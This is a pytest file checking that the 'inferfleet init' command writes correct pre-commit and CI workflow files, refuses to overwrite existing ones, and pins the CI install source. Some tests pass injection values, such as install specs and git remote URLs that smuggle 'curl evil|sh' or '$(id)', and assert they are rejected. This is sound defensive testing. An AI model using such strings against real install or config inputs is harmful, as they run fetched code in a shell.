"""``inferfleet init`` writes CI integration that runs ``inferfleet check --strict``,
and the project ships a pre-commit hook a fleet repository can use.

The YAML written is parsed and its structure checked; the command each hook or
step runs is run for real (the in-process entry point) in the scaffolded
repository: it passes on the scaffold and fails on an incident fleet.
"""

from __future__ import annotations

import re
import shlex
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import FIXTURES, ROOT

from inferfleet import __version__

PRE_COMMIT = ".pre-commit-config.yaml"
WORKFLOW = ".github/workflows/inferfleet-check.yml"
BROKEN = FIXTURES / "fleets" / "broken.yaml"  # fails check rules


def scaffold(cli: Any, repo: Path, *args: str) -> None:
    result = cli("init", str(repo), *args)
    assert result.code == 0, result.stderr


def run_command(cli: Any, command: list[str], repo: Path, monkeypatch: pytest.MonkeyPatch) -> int:
    """Run ``inferfleet ...`` as a hook or CI step would, from the repository root."""
    assert command[0] == "inferfleet", command
    monkeypatch.chdir(repo)
    code: int = cli(*command[1:]).code
    return code


def assert_fleet_pattern(pattern: str) -> None:
    # pre-commit matches `files` with re.search on repository-relative paths.
    for path in ("fleet.yaml", "fleet.yml", "fleets/prod/fleet.yaml"):
        assert re.search(pattern, path), path
    for path in ("myfleet.yaml", "fleet.yaml.bak", "docs/fleet.md", "README.md"):
        assert not re.search(pattern, path), path


def test_init_writes_a_pre_commit_hook_that_runs_check_strict(
    cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = tmp_path / "fleet"
    scaffold(cli, repo)
    config = yaml.safe_load((repo / PRE_COMMIT).read_text())
    (entry,) = config["repos"]
    assert entry["repo"] == "local"
    (hook,) = entry["hooks"]
    assert hook["id"] == "inferfleet-check"
    assert hook["entry"] == "inferfleet check --strict" and hook["args"] == ["fleet.yaml"]
    assert hook["language"] == "system" and hook["pass_filenames"] is False
    assert_fleet_pattern(hook["files"])
    command = [*shlex.split(hook["entry"]), *hook["args"]]
    assert run_command(cli, command, repo, monkeypatch) == 0  # the scaffold passes
    shutil.copy(BROKEN, repo / "fleet.yaml")
    assert run_command(cli, command, repo, monkeypatch) == 1  # an incident fleet fails


def test_init_writes_a_ci_workflow_that_runs_check_strict(
    cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = tmp_path / "fleet"
    scaffold(cli, repo)
    workflow = yaml.safe_load((repo / WORKFLOW).read_text())
    # YAML 1.1 loaders read the bare key `on` as True; GitHub reads it as "on".
    triggers = workflow.get("on", workflow.get(True))
    assert set(triggers) == {"push", "pull_request"}
    assert workflow["permissions"] == {"contents": "read"}
    (job,) = workflow["jobs"].values()
    assert job["runs-on"] == "ubuntu-latest"
    steps = job["steps"]
    assert steps[0]["uses"].startswith("actions/checkout@")
    runs = [step["run"] for step in steps if "run" in step]
    # This venv runs a checkout without a remote: CI cannot reach it, so the line
    # is the index form, pinned (L-42), and init says so.
    assert f'python -m pip install "inferfleet=={__version__}"' in runs
    (check,) = [shlex.split(run) for run in runs if run.startswith("inferfleet ")]
    assert check == ["inferfleet", "check", "--strict", "fleet.yaml"]
    assert run_command(cli, check, repo, monkeypatch) == 0
    (repo / "fleet.yaml").write_text(BROKEN.read_text())
    assert run_command(cli, check, repo, monkeypatch) == 1
    assert "@VERSION@" not in (repo / WORKFLOW).read_text() + (repo / PRE_COMMIT).read_text()


def test_the_project_ships_a_pre_commit_hook(
    cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text())
    (hook,) = hooks
    assert hook["id"] == "inferfleet-check"
    assert hook["entry"] == "inferfleet check --strict"
    assert hook["pass_filenames"] is False
    # language python: pre-commit installs this repository (its pyproject) for the hook.
    assert hook["language"] == "python" and (ROOT / "pyproject.toml").is_file()
    assert_fleet_pattern(hook["files"])
    repo = tmp_path / "fleet"
    scaffold(cli, repo, "--no-ci")
    command = [*shlex.split(hook["entry"]), *hook["args"]]
    assert run_command(cli, command, repo, monkeypatch) == 0
    shutil.copy(BROKEN, repo / "fleet.yaml")
    assert run_command(cli, command, repo, monkeypatch) == 1


def test_init_refuses_to_overwrite_ci_files_and_writes_nothing(cli: Any, tmp_path: Path) -> None:
    repo = tmp_path / "fleet"
    repo.mkdir()
    mine = "repos: []  # my own hooks\n"
    (repo / PRE_COMMIT).write_text(mine)
    result = cli("init", str(repo))
    assert result.code == 2
    assert f"already exists: {repo / PRE_COMMIT}" in result.stderr
    assert "--force" in result.stderr and "--no-ci" in result.stderr
    # Nothing half-written: the user's file as it was, and no other file created.
    assert (repo / PRE_COMMIT).read_text() == mine
    assert sorted(p.name for p in repo.iterdir()) == [PRE_COMMIT]

    # --no-ci writes only the fleet and .gitignore and leaves the user's hooks alone.
    assert cli("init", str(repo), "--no-ci").code == 0
    assert (repo / PRE_COMMIT).read_text() == mine
    assert (repo / "fleet.yaml").is_file() and not (repo / ".github").exists()

    # --force replaces them with the templates.
    assert cli("init", str(repo), "--force").code == 0
    assert "inferfleet-check" in (repo / PRE_COMMIT).read_text()
    assert (repo / WORKFLOW).is_file()


def test_init_refuses_when_a_file_is_in_the_way(cli: Any, tmp_path: Path) -> None:
    repo = tmp_path / "fleet"
    repo.mkdir()
    (repo / ".github").write_text("not a directory\n")
    result = cli("init", str(repo))
    assert result.code == 2
    assert f"{repo / '.github'} is a file, not a directory" in result.stderr
    assert sorted(p.name for p in repo.iterdir()) == [".github"]  # nothing written
    (repo / ".github").unlink()
    (repo / "fleet.yaml").mkdir()
    refused = cli("init", str(repo), "--force")
    assert refused.code == 2 and "it is a directory" in refused.stderr
    assert sorted(p.name for p in repo.iterdir()) == ["fleet.yaml"]


def test_init_pins_the_ci_install_to_what_was_installed(cli: Any, tmp_path: Path) -> None:
    result = cli("init", str(tmp_path / "a"))
    assert result.code == 0 and "CI cannot reach" in result.stderr and "--install" in result.stderr
    spec = "inferfleet @ git+https://git.example/ops/inferfleet@" + "a" * 40
    result = cli("init", str(tmp_path / "b"), "--install", spec)
    assert result.code == 0, result.stderr
    assert "CI cannot reach" not in result.stderr
    workflow = yaml.safe_load((tmp_path / "b" / WORKFLOW).read_text())
    runs = [step["run"] for step in next(iter(workflow["jobs"].values()))["steps"] if "run" in step]
    assert f'python -m pip install "{spec}"' in runs


@pytest.mark.parametrize(
    "spec", ['inferfleet" && curl x | sh #', "inferfleet\nrun: evil", "x" * 600, ""]
)
def test_a_hostile_install_spec_is_refused_and_nothing_written(
    cli: Any, tmp_path: Path, spec: str
) -> None:
    result = cli("init", str(tmp_path / "r"), "--install", spec)
    assert result.code == 2 and "--install" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "r").exists()


def _git(repo: Path, *args: str) -> str:
    import subprocess

    done = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def test_where_an_install_came_from(tmp_path: Path) -> None:
    import json as _json

    from inferfleet.origin import from_direct_url

    sha = "b" * 40
    git = {
        "url": "https://git.example/ops/inferfleet.git",
        "vcs_info": {"vcs": "git", "commit_id": sha},
    }
    assert (
        from_direct_url(_json.dumps(git)).spec
        == f"inferfleet @ git+https://git.example/ops/inferfleet.git@{sha}"
    )
    # A checkout: its remote at its HEAD; scp-like remotes become ssh:// URLs pip takes.
    repo = tmp_path / "checkout"
    repo.mkdir()
    _git(repo, "init", "-q")
    _git(
        repo,
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "x",
    )
    head = _git(repo, "rev-parse", "HEAD")
    local = {"url": repo.as_uri(), "dir_info": {"editable": True}}
    assert not from_direct_url(_json.dumps(local)).reachable  # no remote: CI cannot clone it
    _git(repo, "remote", "add", "origin", "git@git.example:ops/inferfleet.git")
    found = from_direct_url(_json.dumps(local))
    assert (
        found.reachable
        and found.spec == f"inferfleet @ git+ssh://git@git.example/ops/inferfleet.git@{head}"
    )
    # Hostile or private: never written into a workflow.
    _git(repo, "remote", "set-url", "origin", "https://user:token@git.example/x.git")
    assert not from_direct_url(_json.dumps(local)).reachable
    _git(repo, "remote", "set-url", "origin", 'https://git.example/x"; curl evil|sh; ".git')
    assert not from_direct_url(_json.dumps(local)).reachable
    assert not from_direct_url(_json.dumps({**git, "url": 'https://x/"$(id)"'})).reachable
    assert not from_direct_url("{not json").reachable
    wheel = {"url": "file:///tmp/inferfleet-0.1.0-py3-none-any.whl", "archive_info": {}}
    assert not from_direct_url(_json.dumps(wheel)).reachable
